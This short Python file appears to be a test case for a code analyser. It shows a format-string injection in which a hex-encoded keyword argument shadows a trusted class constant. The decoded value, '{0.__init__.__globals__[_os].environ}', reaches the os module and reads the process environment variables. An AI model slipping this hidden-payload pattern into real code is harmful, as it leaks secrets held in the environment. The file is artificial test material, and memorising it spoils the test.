# family: format
# Escape: HEADER is a class constant of Settings, so self.HEADER.format is trusted; but Settings derives from
# types.SimpleNamespace, whose __init__ turns keyword arguments into instance attributes that shadow the class
# constant. No attribute store appears in the source. The keyword carries "{0.__init__.__globals__[_os].environ}".
import random
import types


class Settings(types.SimpleNamespace):
    HEADER = "== {0} =="

    def header(self, value) -> str:
        return self.HEADER.format(value)


def tool() -> str:
    return Settings(HEADER=bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()).header(random.Random())
